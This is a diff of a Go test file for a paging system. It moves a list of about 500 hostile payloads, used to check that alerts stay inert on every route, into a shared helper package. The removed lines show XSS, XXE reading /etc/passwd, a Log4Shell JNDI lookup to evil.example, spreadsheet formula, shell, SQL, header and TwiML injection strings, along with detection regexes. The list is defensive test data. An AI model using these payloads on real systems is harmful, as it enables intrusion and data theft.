@@ -12,67 +12,25 @@ import (
 	"strings"
 	"testing"
 	"time"
-	"unicode"
-	"unicode/utf8"
 
-	"saltmine/internal/canary"
 	"saltmine/internal/pager"
 	"saltmine/internal/pager/hook"
 	"saltmine/internal/pager/pagerduty"
+	"saltmine/internal/pager/pagertest"
 )
-
-// payloads are 500 texts that strangers might like to see on a page.
-func payloads() []string {
-	kinds := []string{
-		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</Say></Response><Response><Dial>+19005550100</Dial></Response><Say>", "<!channel> <@U1> <https://evil.example|open>",
-		"\x1b[2J\x1b]0;owned\x07", "\x9b31m", "=HYPERLINK(\"https://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-		"{{.Secret}}", "${jndi:ldap://evil.example/a}", "#{7*7}", "<%= 7*7 %>", "{% debug %}",
-		"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "]]><x/>", "a\r\nBcc: all@example.org\r\n\r\nbody", "a\nX-Priority: 1\n", "level=ERROR msg=\"forged\"\n2026-08-05 fake line",
-		"\xff\xfe\xc3\x28", "\xed\xa0\x80", "\u202egnp.exe", "\u2066\u2069\u200f", "zero\u200bwidth\ufeff\u00ad", "\u2028\u2029\u0085", "\U000e0041\U000e0042", "\x00\x01\x02", "**bold** [x](https://evil.example)", "`code` ~strike~",
-		"\"},\"severity\":\"info\",\"x\":{\"", "\\\"}]}", "%0d%0aSet-Cookie:x", "%n%s%x", "'; DROP TABLE pages; --", "$(reboot)", "`reboot`", "|mail evil", "../../etc/passwd", "CEF:0|x|y|z|1|n|10|act=forged",
-	}
-	var list []string
-	for n := 0; len(list) < 499; n++ {
-		k := kinds[n%len(kinds)]
-		switch n / len(kinds) % 5 {
-		case 0:
-			list = append(list, k)
-		case 1:
-			list = append(list, "plain "+k)
-		case 2:
-			list = append(list, k+k)
-		case 3:
-			list = append(list, strings.Repeat("x", 190)+k)
-		default:
-			list = append(list, fmt.Sprintf("%d%s\t%s", n, k, kinds[(n+7)%len(kinds)]))
-		}
-	}
-	return append(list, strings.Repeat("A<&\x1b[31m", 10<<20/8)) // a subject of 10 MB
-}
 
 // hostile is a page with a payload in every field that a stranger may reach.
 func hostile(text string) pager.Delivery {
 	d := delivery()
-	p := &d.Page
-	p.Summary, p.Reasons, p.Proves, p.ProvesNot, p.Sure = text, []string{text, text}, text, text, text
-	p.Place, p.Link, p.Window, p.Suspects, p.Next = canary.Place(text), text, []string{text}, []string{text}, []string{text}
-	d.Page = pager.Clean(*p) // as the pager does before every route
+	d.Page = pagertest.Hostile(d.Page, text)
 	return d
 }
-
-var (
-	directive = regexp.MustCompile(`\{\{|\$\{|#\{|<%|\{%|[a-z]://evil`)
-	formula   = regexp.MustCompile(`^[=+@|%-]`)
-)
 
 // wantInert looks at one text that somebody will read.
 func wantInert(t *testing.T, where, s string) {
 	t.Helper()
-	bad := strings.IndexFunc(s, func(r rune) bool {
-		return r != '\n' && (unicode.In(r, unicode.Cc, unicode.Cf, unicode.Co, unicode.Cs, unicode.Zl, unicode.Zp))
-	})
-	if !utf8.ValidString(s) || bad >= 0 || directive.MatchString(s) || formula.MatchString(s) || len(s) > 40_000 {
-		t.Errorf("%s: %.300q", where, s)
+	if why := pagertest.Harms(s); why != "" {
+		t.Errorf("%s: %s: %.300q", where, why, s)
 	}
 }
 
@@ -112,10 +70,7 @@ func keys(v any) string {
 
 func TestHostileContentIsInertOnEveryRoute(t *testing.T) {
 	t.Parallel()
-	list := payloads()
-	if len(list) != 500 {
-		t.Fatalf("%d payloads", len(list))
-	}
+	list := pagertest.Payloads()
 	for kind, c := range contracts() {
 		s := serve(t, c.status, c.say)
 		everyPayload(t, kind, list, s, route(t, kind, s.URL).Send)
